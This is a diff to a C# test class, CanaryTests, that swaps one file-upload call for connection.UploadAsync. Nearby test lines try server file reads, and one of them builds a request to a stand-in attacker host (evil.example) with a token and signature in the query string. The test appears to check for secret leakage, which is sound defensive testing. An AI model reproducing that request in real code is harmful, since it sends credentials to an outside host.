@@ -103,7 +103,7 @@ public sealed class CanaryTests : IDisposable
                 _sinks.Add(told);
             await job;
         });
-        await TryAsync(async () => await connection.Files.OnServerAsync(SpaceFile.FromBytes(new byte[3], "a.bin"), TestContext.Current.CancellationToken));
+        await TryAsync(async () => await connection.UploadAsync(SpaceFile.FromBytes(new byte[3], "a.bin"), cancellationToken: TestContext.Current.CancellationToken));
         await TryAsync(async () => await Files.Files.OnServer(connection, """{"path":"/srv/a.bin"}""").ReadAllBytesAsync(TestContext.Current.CancellationToken));
         await TryAsync(async () => await Files.Files.OnServer(connection, $$"""{"url":"http://evil.example/x?token={{Token}}&__sign={{Signed}}"}""").ReadAllBytesAsync(TestContext.Current.CancellationToken));
         await TryAsync(async () => await SpaceFile.FromUri(new($"http://127.0.0.1:1/x?token={Signed}&__sign={Signed}")).ReadAllBytesAsync(TestContext.Current.CancellationToken));
